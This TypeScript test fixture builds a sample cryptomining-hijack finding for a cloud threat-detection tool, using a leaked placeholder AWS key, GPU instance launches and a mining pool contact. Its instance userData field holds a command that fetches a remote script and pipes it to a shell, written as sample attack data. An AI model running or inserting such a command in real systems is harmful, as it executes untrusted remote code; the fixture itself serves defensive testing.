/**
 * A hand-built AN0744 finding with the facts the contract (notes c14-design) names: a leaked access key
 * used from a new IP to launch 20 GPU instances with a miner in their userData, their flows reaching a
 * pool and their CPU pinned. Tests override what they exercise.
 */
import type { Evidence, Finding } from '../../src/model/finding.js';

export const INSTANCES = ['i-0a1b2c3d4e5f60718', 'i-0a1b2c3d4e5f60719', 'i-0a1b2c3d4e5f6071a'];
export const KEY = 'AKIAIOSFODNN7EXAMPLE';
export const PRINCIPAL = 'arn:aws:iam::123456789012:user/ci-deploy';

export function cloudEvidence(kind: Evidence['kind'], cls: Evidence['class'], extra: Partial<Evidence> = {}): Evidence {
  return {
    kind,
    class: cls,
    strength: 'strong',
    time: '2026-12-01T02:13:05.000Z',
    source: 'cloudtrail/123456789012_CloudTrail_us-east-1.json:3',
    explanation: `${kind} evidence`,
    by: `test:${kind}`,
    entity: `instance:aws:${INSTANCES[0]}`,
    ...extra,
  };
}

export function an0744Finding(extra: Partial<Finding> = {}, facts: Finding['facts'] = {}): Finding {
  return {
    id: 'cm-744',
    analytic: 'AN0744',
    title: 'Resource hijacking: 20 instances (g4dn.xlarge) in aws account 123456789012 us-east-1 by ci-deploy',
    attack: ['T1496.001'],
    severity: 'high',
    confidence: 0.9,
    entity: `instance:aws:${INSTANCES[0]}`,
    related: [],
    host: 'aws:123456789012',
    first_seen: '2026-12-01T02:13:05.000Z',
    last_seen: '2026-12-01T05:25:05.000Z',
    legs: ['resource', 'reach', 'authorization'],
    summary: '',
    evidence: [
      cloudEvidence('unauthorized-launch', 'authorization', {
        by: 'engine:launch-first-seen',
        explanation: `RunInstances of 20 g4dn.xlarge in us-east-1 by ${PRINCIPAL} (key ${KEY}) from 203.0.113.77: first launch by ${PRINCIPAL}; GPU or very large instances (g4dn.xlarge); just before: EnableRegion ap-southeast-3`,
      }),
      cloudEvidence('pool-contact', 'network', {
        source: 'vpc-flow/eni-0abc.log:12',
        explanation: `${INSTANCES[0]} connected to 198.51.100.23:443, the pool pool.supportxmr.com:443`,
        intel: { set: 'pool-domains', source: 'Falco rules', version: 'falco@18aa700' },
      }),
      cloudEvidence('sustained-cpu', 'resource', {
        source: 'cloudwatch/cpu.json#4',
        by: 'engine:instance-cpu',
        explanation: `${INSTANCES[0]} CPU pinned at 99% from launch for 3h`,
      }),
    ],
    gaps: [],
    suppressed_by: null,
    facts: {
      host: 'aws:123456789012',
      provider: 'aws',
      account: '123456789012',
      region: 'us-east-1',
      instances: [...INSTANCES],
      instance_count: 20,
      instance_types: ['g4dn.xlarge'],
      image: 'ami-0abcdef1234567890',
      principal: PRINCIPAL,
      principal_type: 'IAMUser',
      access_key_id: KEY,
      source_ip: '203.0.113.77',
      user_agent: 'Boto3/1.34.0 md/Botocore#1.34.0 Python/3.11.4',
      launched: '2026-12-01T02:13:05.000Z',
      launch_operation: 'RunInstances',
      user_data: '#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | sh',
      authorization: `first launch by ${PRINCIPAL}; GPU or very large instances (g4dn.xlarge) (baseline: 14 days of audit history)`,
      cpu_pct_peak: 99,
      instance_hours: 64,
      destinations: ['pool.supportxmr.com:443 (198.51.100.23)'],
      ...facts,
    },
    processes: [],
    usage: null,
    ...extra,
  };
}
